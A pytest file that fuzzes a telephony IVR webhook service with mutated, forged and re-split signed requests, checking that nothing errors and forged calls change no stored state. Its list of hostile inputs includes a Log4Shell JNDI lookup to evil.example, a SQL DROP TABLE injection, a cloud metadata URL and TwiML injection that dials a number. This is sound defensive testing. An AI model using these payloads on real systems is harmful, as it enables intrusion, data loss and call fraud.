"""Ten thousand genuine but hostile webhooks, ten thousand forged ones, and genuine signatures over fields cut anew.

A genuine one is answered, or refused with a 4xx; it never meets an error of ours. A forged one changes nothing.
"""

from random import Random
from urllib.parse import urlencode

import pytest
from forgery import forged_signatures, resplit, tampered
from service import LINE, RINGS, SECRET
from twiml_rules import voice_document
from wire import AUTH_TOKEN, PUBLIC_BASE_URL, pairs, sign

from ivr.form import parse
from ivr.hearing import Strange, audio, call_sid, heard, hung_up, rang
from ivr.tokens import Seal
from ivr.urls import RECORDING, TURN

SIGNED = 10_000
FORGED = 10_000
HOSTILE = [
    "",
    " ",
    "*#ABCD",
    "hangup",
    "9" * 5000,
    "-1",
    "1e9",
    "\u0661\u0662\u0663",
    "\uff11\uff12\uff13",
    "123\n",
    "\x00",
    "\x0b\x1b\ufffe",
    "\u202e\u2028\U0001f4de",
    "anonymous",
    "+266696687",
    "sip:a@b.example;transport=tls",
    "+1 900 555 0100",
    "<Say>hello</Say>",
    "]]><Dial>+14085550199</Dial>",
    "'; DROP TABLE calls; --",
    "${jndi:ldap://evil.example}",
    "https://169.254.169.254/latest/meta-data",
    "true",
    "completed",
    "CA" + "f" * 32,
    "RE" + "0" * 32,
    "Digits=1",
    "1From+15550100",
]
FIELDS = [
    "CallSid", "AccountSid", "From", "To", "Caller", "Called", "CallStatus", "ApiVersion", "Direction", "FromCity",
    "FromState", "FromZip", "FromCountry", "ToCity", "ToState", "ToZip", "ToCountry", "CallerName", "ForwardedFrom",
    "StirVerstat", "ParentCallSid", "Digits", "RecordingSid", "RecordingUrl", "RecordingDuration", "RecordingStatus",
    "DialCallStatus", "DialCallSid", "DialCallDuration", "DialBridged", "CallDuration", "SequenceNumber", "ErrorCode",
    "ErrorUrl", "Timestamp", "SpeechResult", "FinishedOnKey", "msg", "x", "",
]  # fmt: skip
STATUSES = (200, 204, 400, 403, 404, 405, 411, 413, 415)


@pytest.fixture
def golden(service):
    """Every webhook of a few calls that between them use every URL."""
    first = service.dials(LINE["us-standard"]).presses("1").presses("2")
    first.is_busy().engineer_accepts().talks(40).engineer_hangs_up().hangs_up()
    second = service.dials(LINE["us-voicemail"]).presses("2").presses("#").leaves_a_message(9).presses("1").hangs_up()
    second.recording_arrives()
    third = service.dials(LINE["us-standard"], "anonymous").presses("620045").presses("1").presses("3").hangs_up()
    assert RINGS["us-tier1-engineer"] in third.dialled
    service.dials(LINE["us-standard"]).fails_over("11200").presses("1")
    return [(one.path, dict(one.form)) for one in service.phone.exchanges]


def mutated(form, chance):
    """A form with one to four things wrong with it."""
    fields = list(form.items())
    for _ in range(chance.randint(1, 4)):
        at = chance.randrange(len(fields)) if fields else 0
        match chance.randrange(6):
            case 0 if fields:
                fields.pop(at)
            case 1 if fields:
                fields[at] = (fields[at][0], chance.choice(HOSTILE))
            case 2 if fields:
                fields.append((fields[at][0], chance.choice(HOSTILE)))
            case 3:
                fields.append((chance.choice(FIELDS), chance.choice(HOSTILE)))
            case 4 if fields:
                fields[at] = (chance.choice(FIELDS), fields[at][1])
            case _:
                chance.shuffle(fields)
    return fields


def test_ten_thousand_genuine_but_hostile_webhooks_meet_no_error_of_ours(service, golden):
    chance = Random(20261122)
    paths = [path for path, _ in golden]
    refused = 0
    for _ in range(SIGNED):
        path, form = chance.choice(golden)
        if chance.random() < 0.1:
            path = chance.choice(paths)
        reply = service.phone.post(path, mutated(form, chance))
        assert reply.status in STATUSES, (path, reply.status, reply.text)
        if reply.status == 200:
            check_document(service, reply)
        refused += reply.status != 200
    assert refused < SIGNED
    service.checks_out()


def check_document(service, reply):
    if reply.body.endswith(b"<Response></Response>"):
        return
    verbs = frozenset({"Say", "Gather", "Record", "Dial", "Play", "Pause", "Redirect", "Hangup", "Number"})
    voice_document(reply, service.phone.wire.base, verbs)


def test_ten_thousand_forged_webhooks_change_nothing(service, golden):
    before, kinds, sent = service.everything_stored(), set(), 0
    chance = Random(28)
    while sent < FORGED:
        path, form = chance.choice(golden)
        for kind, signature in forged_signatures(service.phone, path, form):
            reply = service.phone.post(path, form, signature=signature)
            assert reply.status in (400, 403), (kind, reply.status)
            assert b"<" not in reply.body
            kinds.add(kind)
            sent += 1
    assert len(kinds) > 15
    assert service.everything_stored() == before


def test_no_changed_field_survives_the_signature(service, golden):
    before = service.everything_stored()
    for path, form in golden[:12]:
        signature = sign(AUTH_TOKEN, PUBLIC_BASE_URL + path, form)
        for name, fields in tampered(form):
            assert service.phone.post(path, fields, signature=signature).status == 403, name
    assert service.everything_stored() == before


def test_genuine_signatures_over_fields_cut_anew_say_the_same_or_nothing(service, golden):
    """S3: the signature covers the text of all fields run together, not where one ends and the next begins.

    However the text is cut, the request is an anomaly, or it says word for word what the genuine one says.
    """
    tried = strange = 0
    for path, genuine in golden:
        right = what_it_says(path, genuine)
        for fields in resplit(genuine):
            tried += 1
            said = what_it_says(path, fields)
            strange += said is None
            assert said in (None, right), (path, fields)
    assert tried > 20_000
    assert strange > 1_000


def what_it_says(path, fields):
    """What the service would act on in a request; None when it is an anomaly."""
    parsed = parse(urlencode(pairs(fields)).encode())
    try:
        if path.startswith(TURN):
            return heard(parsed, seal().read_turn(path.removeprefix(TURN)))
        if path.startswith(RECORDING):
            return audio(parsed, seal().read_turn(path.removeprefix(RECORDING), "audio"))
        if path == "/voice/status":
            return call_sid(parsed), hung_up(parsed)
        rung = rang(parsed) if path == "/voice" else None
        return call_sid(parsed), (rung.sid, rung.line, rung.caller) if rung else None
    except Strange:
        return None


def seal():
    return Seal(SECRET)


def test_a_genuine_request_cut_anew_is_answered_and_moves_no_call(service, golden):
    before = service.everything_stored()
    for path, form in golden[:3]:
        signature = sign(AUTH_TOKEN, PUBLIC_BASE_URL + path, form)
        for fields in list(resplit(form))[::7]:
            assert service.phone.post(path, fields, signature=signature).status in STATUSES
    assert service.everything_stored() == before
